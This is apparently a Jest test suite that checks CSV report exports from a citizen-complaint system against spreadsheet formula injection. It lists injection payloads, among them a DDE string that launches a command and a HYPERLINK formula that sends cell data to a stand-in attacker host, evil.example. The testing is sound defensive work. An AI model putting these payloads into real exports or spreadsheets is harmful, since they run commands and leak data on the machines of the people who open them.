import { parse } from 'csv-parse/sync'
import { describe, expect, test } from '@jest/globals'
import type { Entry } from '../../knowledge/entry.js'
import { exportCsv } from '../../knowledge/exchange/export-csv.js'
import { readTable } from '../../knowledge/exchange/read-table.js'
import { parseEntryFile } from '../../knowledge/entry-file.js'
import type { ReportTable } from '../../src/desk/contract/administration.js'
import { type Span, type TableDeps, writeTable } from '../../src/desk/reports/report-csv.js'
import { entryText } from '../knowledge/entry-text.js'
import { tried } from './size.js'

/** What a citizen may write so that a supervisor's spreadsheet runs it. */
const LIVE = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '\u00a0=', '＝', '＋', '－', '＠'].flatMap((start) => [
  `${start}1+1`,
  `${start}cmd|' /C calc'!A0`,
  `${start}HYPERLINK("http://evil.example/?"&A1,"فاتورة")`,
])
const INSIDE = [
  'a;=1+1',
  'a,=1+1',
  'a";=1+1;"',
  'a"",=1+1',
  'a\t=1+1',
  'a\n=1+1',
  'a\r\n=1+1',
  'a; -2+3',
  'رقم;+96899123456',
]
const HOSTILE = [...LIVE, ...INSIDE]
const TABLES: readonly ReportTable[] = ['days', 'cases', 'satisfaction', 'entries', 'unknown', 'complaints']

const LINE = (words: string) => ({
  kind: 'complaint',
  tags: JSON.stringify([words]),
  details: JSON.stringify({ what: words, where: words, since: words }),
  opened_at: 0,
  first_reply_at: null,
  closed_at: null,
  rated_at: 0,
  urgent: 0,
  score: 1,
  count: 1,
  ...Object.fromEntries(
    [
      'reference',
      'state',
      'reason',
      'outcome',
      'team',
      'agent',
      'channel',
      'language',
      'subject',
      'comment',
      'agency',
      'entry',
      'question',
    ].map((name) => [name, words]),
  ),
})

/** A store in which every word is the citizen's. */
const deps = (words: string): TableDeps => ({
  nameOf: () => words,
  store: {
    desk: { reports: new Proxy({}, { get: () => async () => [LINE(words)] }) },
  } as unknown as TableDeps['store'],
})
const SPAN: Span = { period: {} as Span['period'], days: [], agency: null }

/** The cells as a spreadsheet makes them: by its own separator, or wherever another one stands, quotes or not. */
const cells = (csv: string, mark: string): readonly string[] =>
  mark === ','
    ? (parse(csv, { bom: true, relax_column_count: true }) as string[][]).flat()
    : csv.split(mark === ';' ? /[;\r\n]/ : /[\t\r\n]/)

const isLive = (cell: string): boolean => /^[\s"]*[=+\-@＝＋－＠]/.test(cell)

describe('a spreadsheet that opens an export', () => {
  test.each(TABLES)('runs nothing of what citizens wrote: %s', async (table) => {
    const live: string[] = []
    for (const words of HOSTILE) {
      const csv = await writeTable(deps(words), table, SPAN)
      for (const mark of [',', ';', '\t'])
        live.push(
          ...cells(csv, mark)
            .filter(isLive)
            .map((cell) => `${JSON.stringify(words)} by ${mark}: ${cell}`),
        )
    }
    tried('S9', `${HOSTILE.length} texts × 3 separators`)
    expect(live).toEqual([])
  })

  test('keeps Arabic and telephone numbers as they were written, as text', async () => {
    const csv = await writeTable(deps('+968 99123456 سالم'), 'unknown', SPAN)
    expect(csv.startsWith('\uFEFF')).toBe(true)
    expect(cells(csv, ',')).toContain("'+968 99123456 سالم")
  })

  test('runs nothing of the entries either, and what is read back is what was written', () => {
    const { entry } = parseEntryFile('card-fee.md', entryText())
    if (!entry) throw new Error('no entry')
    for (const words of LIVE.filter((one) => !/^\s/.test(one))) {
      const hostile = { ...entry, owner: words, question: { ar: words, en: words } } as Entry
      const csv = exportCsv([hostile])
      expect(cells(csv, ',').filter(isLive)).toEqual([])
      expect(readTable('x.csv', csv).items[0]?.question).toEqual({ ar: words, en: words })
    }
  })
})
